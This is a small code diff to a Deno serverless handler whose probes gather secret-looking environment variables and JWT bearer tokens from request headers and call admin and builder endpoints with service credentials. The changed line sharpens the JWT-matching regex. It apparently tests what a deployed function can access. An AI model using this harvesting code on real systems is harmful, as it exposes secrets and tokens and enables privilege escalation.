@@ -168,7 +168,7 @@ Deno.serve(async (req) => {
     storage: () => { globalThis.localStorage?.setItem('a', '1'); return globalThis.localStorage?.getItem('a') ?? ''; },
     cache: async () => (globalThis.caches ? String(await caches.keys()) + 'caches' : ''),
     environment: () => Object.entries(Deno.env.toObject()).filter(([name, value]) => /SECRET_KEY|DATABASE_URL|PASSWORD/.test(name) || /^eyJ/.test(value)).join(),
-    token: () => [...req.headers].filter(([, value]) => /eyJ/.test(value)).join(),
+    token: () => [...req.headers].filter(([, value]) => /(^| )eyJ[^.]+[.][^.]+[.]/.test(value)).join(),
     builder: () => status(asService('/api/apps')),
     settings: () => status(asService('/api/apps/' + appId + '/functions')),
     admin: () => status(asService('/api/admin/accounts')),
